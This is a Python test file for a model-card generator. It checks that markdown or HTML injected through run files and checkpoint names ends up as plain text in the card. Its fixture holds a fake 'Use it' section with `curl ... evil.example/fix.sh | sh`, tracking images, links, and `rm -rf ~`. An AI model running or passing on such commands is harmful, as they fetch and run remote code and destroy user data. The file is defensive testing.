"""The model card's text from a run's files stays text: a ``meta.json``, ``config.json``,
``result.json`` or checkpoint name holding markdown or HTML (a fake "Use it" section, a
``curl | sh``, an image, a link) never reaches the card as markdown structure.

The card is parsed as markdown (markdown-it, CommonMark with tables): its sections, links, images,
HTML and code blocks must be the card's own, and every crafted value must sit inside an inline code
span or a fenced block, where nothing is markup.
"""

from __future__ import annotations

import json
import shutil

import pytest
from markdown_it import MarkdownIt

from border_py.cli.main import main
from border_py.evaluation.evaluator import EvalResult
from border_py.hub.card import CardFacts, card
from border_py.hub.score import Score

EVIL = "evil.example"
INJECTED = (
    "0.2.0\n\n## Use it (updated)\n\nThe checkpoint needs a fix: run"
    f" `curl -s https://{EVIL}/fix.sh | sh` first.\n\n<img src=https://{EVIL}/track.png>"
    f" [docs](https://{EVIL}/docs) ![x](https://{EVIL}/x.png) www.{EVIL}\n```\n\n```bash\nrm -rf ~"
)
SECTIONS = ["Score", "Training", "Use it", "Files", "Hyper-parameters"]


def structure(text: str) -> tuple[list[str], list[str], list[str], list[str]]:
    """The card's headings, code blocks' languages, links/images/HTML, and the text outside code
    (markdown-it's tokens: what a renderer makes of it)."""
    body = text.split("\n---\n", 1)[1]  # after the front matter (YAML, parsed by the Hub)
    headings, fences, markup, plain = [], [], [], []
    tokens = MarkdownIt("commonmark").enable("table").parse(body)
    for i, token in enumerate(tokens):
        if token.type == "heading_open":
            headings.append(tokens[i + 1].content)
        elif token.type in ("fence", "code_block"):
            fences.append(token.info.strip() or token.type)
        elif token.type == "html_block":
            markup.append(token.content)
        for child in token.children or []:
            if child.type in ("link_open", "image", "html_inline", "autolink"):
                markup.append(child.type)
            elif child.type == "text":
                plain.append(child.content)
    return headings, fences, markup, plain


def facts(**changes) -> CardFacts:
    result = EvalResult(12.5, 1.25, 10.0, 15.0, 12.5, [10.0, 12.5, 15.0])
    base = {
        "repo_id": "me/cartpole-dqn",
        "env_id": "CartPole-v1",
        "algorithm": "DQN",
        "score": Score(result, range(2000, 2003), 0.0, 500),
        "checkpoint": {"name": "best", "opt_steps": 300, "env_steps": 500},
        "training": {"status": "completed", "env_steps": 600, "opt_steps": 300, "seconds": 4.2},
        "config": {"seed": 0, "env": {"id": "CartPole-v1"}},
        "files": {"README.md": "this card"},
        "versions": {"pushed": "0.2.0", "trained": "0.2.0"},
    }
    return CardFacts(**(base | changes))


def test_crafted_values_on_the_card_are_text():
    text = card(
        facts(
            env_id=f"www.{EVIL}\n\n## Use it (updated)",
            algorithm=f"DQN <img src=https://{EVIL}/a.png>",
            checkpoint={"name": INJECTED, "opt_steps": 300, "env_steps": 500},
            training={"status": INJECTED, "env_steps": 600, "opt_steps": 300, "seconds": 4.2},
            config={"seed": 0, "notes": INJECTED, "env": {"id": "CartPole-v1"}},
            versions={"pushed": "0.2.0", "trained": INJECTED},
        )
    )
    headings, fences, markup, plain = structure(text)
    assert headings[1:] == SECTIONS
    assert fences == ["bash", "python", "yaml"]
    assert markup == []
    assert not [p for p in plain if EVIL in p or "curl" in p]  # only inside code
    assert "trained with border-py unknown." in text
    assert "| unknown | 600 | 300 | 4 s |" in text  # a status is one of three words


def test_numbers_from_files_are_written_by_the_card():
    text = card(
        facts(
            checkpoint={"name": "best", "opt_steps": "[x](https://evil)", "env_steps": 1e400},
            training={"status": "completed", "env_steps": 10**4000, "opt_steps": None},
        )
    )
    assert "| completed | unknown | unknown | unknown |" in text
    assert "saved after unknown opt steps and unknown env steps" in text


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        ("0.2.0", "0.2.0"),
        ("0.3.0.dev4+g1a2b3c", "0.3.0.dev4+g1a2b3c"),
        ("1.0rc1", "1.0rc1"),
        ("0.2.0 <b>", "unknown"),
        ("0.2.0\n", "unknown"),
        ("v0.2", "unknown"),
        (20, "unknown"),
    ],
)
def test_a_version_is_shown_only_when_it_reads_as_one(value, shown):
    text = card(facts(versions={"pushed": "0.2.0", "trained": value}))
    assert text.rstrip().endswith(f"trained with border-py {shown}.")


@pytest.mark.slow
def test_a_crafted_run_pushes_a_card_of_its_own_structure(trained, tmp_path):
    run = tmp_path / "run"
    shutil.copytree(trained, run)
    best = run / "checkpoints" / "best"
    # a dir name holds no '/': an image from a bare host, and a link the Hub would make of www.
    crafted = run / "checkpoints" / f"best`\n\n## Use it (updated)\n\n<img src=x> www.{EVIL}"
    shutil.copytree(best, crafted)
    meta = json.loads((crafted / "meta.json").read_text())
    (crafted / "meta.json").write_text(json.dumps(meta | {"border_py": INJECTED}))
    config = json.loads((crafted / "config.json").read_text())
    (crafted / "config.json").write_text(json.dumps(config | {"notes": INJECTED}))
    result = json.loads((run / "result.json").read_text())
    result["status"] = INJECTED
    result["summary"]["env_steps"] = f"<img src=https://{EVIL}/e.png>"
    (run / "result.json").write_text(json.dumps(result))

    out = tmp_path / "card"
    argv = ["push", str(crafted), "--repo", "me/cartpole", "--dry-run", str(out), "--episodes", "1"]
    assert main(argv) == 0
    text = (out / "README.md").read_text()
    headings, fences, markup, plain = structure(text)
    assert headings[1:] == SECTIONS
    assert fences == ["bash", "python", "python", "yaml"]  # pull, load_policy, the export, config
    assert markup == []
    assert not [p for p in plain if EVIL in p or "curl" in p]
    assert "trained with border-py unknown." in text
    results = json.loads((out / "results.json").read_text())
    assert results["border_py"]["trained"] == "unknown"
